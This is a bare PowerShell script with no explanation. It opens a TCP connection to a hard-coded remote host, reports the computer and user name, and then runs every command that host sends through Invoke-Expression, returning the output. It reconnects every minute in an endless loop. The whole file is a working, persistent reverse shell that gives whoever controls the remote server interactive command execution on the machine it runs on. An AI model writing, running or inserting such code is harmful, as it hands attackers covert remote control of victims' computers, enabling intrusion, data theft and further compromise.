$server = '203.0.113.45'
$port = 8080
while ($true) {
    try {
        $client = New-Object System.Net.Sockets.TCPClient($server, $port)
        $stream = $client.GetStream()
        $reader = New-Object IO.StreamReader($stream)
        $writer = New-Object IO.StreamWriter($stream)
        $writer.AutoFlush = $true
        $writer.WriteLine("READY $env:COMPUTERNAME\$env:USERNAME")
        while (($line = $reader.ReadLine()) -ne $null) {
            try { $out = (Invoke-Expression $line 2>&1 | Out-String) } catch { $out = $_.ToString() }
            $writer.WriteLine($out + 'PS ' + (Get-Location).Path + '> ')
        }
        $client.Close()
    } catch { Start-Sleep -Seconds 60 }
}
